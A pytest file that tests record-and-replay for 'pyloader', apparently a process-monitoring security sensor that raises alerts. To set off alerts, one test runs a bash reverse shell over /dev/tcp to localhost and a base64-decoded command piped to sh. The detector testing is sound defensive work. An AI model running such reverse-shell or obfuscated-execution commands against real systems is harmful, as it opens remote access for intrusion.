"""A recording repeats the live run."""

import subprocess
from pathlib import Path

import pytest

from tests.kernel.command import PYLOADER, running
from tests.kernel.observing import run


def replay(recording: Path, *options: str) -> "subprocess.CompletedProcess[bytes]":
    """Run `pyloader replay`."""
    command = [*PYLOADER, "replay", str(recording), "--format", "json", *options]
    return subprocess.run(command, check=False, capture_output=True)


@pytest.mark.parametrize("options", [["--events"], ["--min-score", "30"], []], ids=["events", "lower score", "alerts"])
def test_a_replay_prints_what_the_live_run_printed(programs: Path, tmp_path: Path, options: list[str]) -> None:
    """The replay of a recording gives the same scores, alerts and summary as the run, byte for byte."""
    recording = tmp_path / "run.rec"

    with running(tmp_path, "--record", recording, *options) as sensor:
        run([programs / "flood", "200", programs / "nothing"])
        run(["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"])
        run(["sh", "-c", "echo id | base64 | base64 -d | sh"])

    replayed = replay(recording, *options)
    assert replayed.returncode == 0
    assert sensor.output.read_bytes() == replayed.stdout
    assert b'"type":"alert"' in replayed.stdout


def test_a_recording_that_was_cut_replays_up_to_the_cut(tmp_path: Path) -> None:
    """What stands before the damage is printed, the place of the damage is told, and the exit code is 1."""
    recording = tmp_path / "run.rec"
    with running(tmp_path, "--record", recording, "--events") as sensor:
        run(["true"])
    whole = sensor.output.read_bytes().splitlines()
    recording.write_bytes(recording.read_bytes()[:-5])

    replayed = replay(recording, "--events")

    assert replayed.returncode == 1
    assert whole[:-2] == replayed.stdout.splitlines()[:-1]
    assert b"damaged at byte" in replayed.stderr
    assert b"Traceback" not in replayed.stderr


def test_a_killed_run_leaves_a_recording_that_can_be_read(programs: Path, tmp_path: Path) -> None:
    """After SIGKILL the recording replays without a traceback, whole or up to where it was cut off."""
    recording = tmp_path / "run.rec"
    with running(tmp_path, "--record", recording, "--events") as sensor:
        run([programs / "flood", "3000", programs / "nothing"])
        sensor.process.kill()
        sensor.process.wait(timeout=10)

    replayed = replay(recording, "--events")

    assert replayed.returncode in (0, 1)
    assert replayed.stdout.count(b'"process_exec"') > 0
    assert b"Traceback" not in replayed.stderr
